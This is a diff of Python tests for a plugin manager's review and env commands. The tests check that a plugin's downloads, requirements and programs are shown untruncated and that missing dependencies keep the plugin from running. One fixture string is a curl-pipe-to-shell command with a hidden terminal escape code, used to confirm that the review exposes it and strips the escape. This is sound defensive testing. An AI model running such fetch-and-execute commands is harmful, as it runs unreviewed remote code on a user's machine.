@@ -138,15 +138,32 @@ def test_a_plugin_json_shows_downloads_programs_and_questions_untruncated(operat
     path = operator.home.plugins_dir / "monitor"
     path.mkdir(parents=True)
     (path / "plugin.json").write_text(json.dumps(LEGACY))
+    (path / "requirements.txt").write_text(f"{LONG}==1\n")
     shown = operator.run("review").stdout
-    assert f"runs: curl http://x/{LONG} | sh\\x1b[2J" in shown
+    assert f"curl http://x/{LONG} | sh\\x1b[2J" in shown
+    assert f"requirements.txt: {LONG}==1" in shown
     assert f"reverse: python3 reverse.py {LONG}, for each call" in shown
     assert "before each run of reverse" in shown
     assert "only after a message with +monitor" in shown
     assert "socket /run/m.sock" in shown
     assert "\x1b" not in shown
     data = operator.ask("review")["pending"][0]["legacy"]
-    assert data["downloads"]["install_command"] == LEGACY["dependencies"]["install_command"]  # type: ignore[index]
+    assert f"requirements.txt: {LONG}==1" in data["downloads"]
+
+
+def test_what_is_not_installed_for_a_plugin_json_keeps_it_from_running_and_is_said(operator: Operator) -> None:
+    path = operator.home.plugins_dir / "monitor"
+    path.mkdir(parents=True)
+    (path / "plugin.json").write_text(json.dumps({**LEGACY, "dependencies": {"file": "requirements.txt"}}))
+    (path / "requirements.txt").write_text("some-thing==1\n")
+    operator.run("enable", "monitor", "--yes")
+    plugin = operator.ask("list")["plugins"][0]
+    assert plugin["state"] == "not configured"
+    assert plugin["reason"] == "its dependencies are not installed; to install them: ally-plugins env monitor"
+    assert plugin["command"] == ["python3", "daemon.py"]
+    shown = operator.run("env", "monitor", code=1).stdout
+    assert "downloads: requirements.txt: some-thing==1" in shown
+    assert f"-r {path}/requirements.txt" in shown
 
 
 def test_a_folder_and_a_package_of_one_name_are_both_listed_and_chosen_by_enable(warner: Operator) -> None:
